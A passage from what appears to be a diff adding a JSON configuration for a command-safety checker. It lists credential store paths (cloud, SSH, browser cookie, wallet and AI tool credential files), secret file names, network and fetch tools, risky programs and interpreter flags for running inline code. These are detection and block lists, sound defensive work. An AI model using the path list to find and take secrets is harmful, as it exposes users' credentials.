+ala","ex","exs","erl","clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","featu\
+re","png","svg"],"file_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","h\
+pp","java","kt","kts","swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","pr\
+oto","ex","exs","scala","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerf\
+ile","gemfile","rakefile","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyu\
+n|\\\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\
+\\\\.config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/co\
+nfigstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/compos\
+er/auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli\
+/auth\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\
+\\.jira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle\
+/kaggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/creden\
+tials[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/\
+keyrings|\\\\.local/share/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|c\
+hrome/profile[^/]*|chromium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrome[^/]*/[^/]*/co\
+okies|chromium/[^/]*/cookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin\
+|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/\
+pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss\
+/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","sec\
+rets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","htt\
+p","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat\
+","netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"\
+killers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","s\
+plit","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fis\
+h","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub"\
+,"sg","shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert\
+","am"],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user",\
+"name","p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],\
+"body_options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","approve-build\
+s","audit","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","ex\
+ec","explain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test","it","lic\
+enses","link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile",\
+"prune","publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start",\
+"stop","store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","wh\
+y","with","workspace","workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv"\
+,"ln"],"risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdisca\
+rd","truncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","f\
+ind","xargs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","shutdown","r\
+eboot","halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","umount","do\
+cker","kubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runn\
+ers":["echo","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","pa\
+tch","ls","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info","help","a\
+propos","tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","shift","rea\
+d","local","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","\
+bundle","composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zyp\
+per","emerge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync\
+","ftp","tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","\
+nano","emacs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscr\
+ipt","date","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep\
+","seq","yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings",\
+"column","fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg",\
+"mount","umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","passwd","cron\
+tab","dd","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","\
+ksh","eval","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza"\
+,"fd","dropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand\
+","unexpand","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4\
+","m4","cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","sh\
+uf","look","comm","tsort","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c\
+"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","lon\
+g":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader","experim\
+ental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","repor\
+t-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destinat\
+ion","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"nodejs":{"short":"eprC","long":["eval\
+","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-c\
+onfig","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pa\
+ttern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","c\
+heck"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","in\
+put-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhan\
+dled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code\
+":["e","p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","\
+env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filenam\
+e","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"\
+optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{"short":"eprC","long":["eval","print","require","import\
+","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings",\
+"report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","tes\
+t-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"deno":{"short":"ep\
+rC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-dat\
+a-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-pa\
+th","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"]\
+,"checks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exis\
+ts","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-tra\
+ce-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"j\
+avascript","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Con\
+cise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"ruby","cod\
+e":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","rakefile"],\
+"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","process-end\
+","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"files":["f\
+","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e",\
+"source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec\
+"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator","assign"\
+,"source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["\
+file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"ps\
+ql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","co\
+de":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbnam\
+e","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS",\
+"long":["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","exec\
+ute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"f\
+iles":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","long":["cmd"\
+,"host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"database then \
+code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["execut\
+e"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"\
+language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set","variabl\
+e"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","database","f\
+ile","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["query","host"\
+,"port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"short":"qhud"\
+,"long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"operands":"\
+no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"s\
+ql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file","set","va\
+riable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username","dbname"\
+,"database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","username","pass\
+word","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"mongosh":\
+{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"file\
+s":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"valkey-c\
+li":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","f\
+iles":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language":"sql","f\
+iles":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","execute","\
+file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog","schema",\
+"user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","long":["serve\
+r","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{"short":"e\
+funpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"beeline":{"s\
+hort":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"spar\
+k-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no co\
+de"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","quer\
+y_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":\
+["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":tru\
+e,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","username","dbn\
+ame","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["execute","hos\
+t","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execute","host",\
+"port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"],"permute\
+d":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connection"],"permu\
+ted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"],"after":\
+["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"\
+ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"dja\
+ngo-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd","after":\
+["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],\
+"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"],"languag\
+e":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval","eval","\
+ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"wp":\
+{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"after":["ev\
+al","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","type","host\
+","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"builtin":{},"pk\
+exec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"\
+taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"\
+short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"dotenv":{"\
+short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"cc\
+ache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":"n","long"\
+:["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","l\
+ong":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"strace":{"sh\
+ort":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","export-json","\
+export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"short":"wlgxuf\
+tHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"short":"wlgxuf\
+tHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh":{"short"\
+:"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip":1,"code"\
+:["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","groups"],"ski\
+p":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["target","s\
+etuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"\
+},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","long":["pro\
+perty","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long":["what",\
+"who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","python"]},"su"\
+:{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{"short":"c\
+gGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":99,"code":\
+["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"short":"","lon\
+g":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":["dlx","ex\
+ec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":"","long":[]\
+,"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"after":["exec\
+"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"],"after":[\
+"run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":"","long":\
+["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short":"","long\
+":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after":["run"]},\
+"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical":{"short"\
+:"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short":"ares","\
+long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"","long":[],\
+"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"short":"","\
+long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]},"vagrant"\
+:{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["forall"]}},"sma\
+ll_languages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","l\
+ong":[],"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"\
+},"lua5.4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":[\
+"e"],"dialect":"r"},"julia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tc\
+l"},"wish":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["ev\
+al","e"],"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","\
+e","eval","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"co\
+de":["c","e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["ev\
+al"],"code":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","\
+long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"shor\
+t":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","lo\
+ng":["eval"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"]\
+,"code":["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","lo\
+ng":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave\
+"},"ghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":\
+[],"code":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"d\
+ialect":"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"spark-s\
+hell":{"short":"","long":["master","deploy-mode","conf","packages","jars","name","driver-memory","executor-memory","queue"],"dialect":"named"},"swift":{"short":\
+"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","lon\
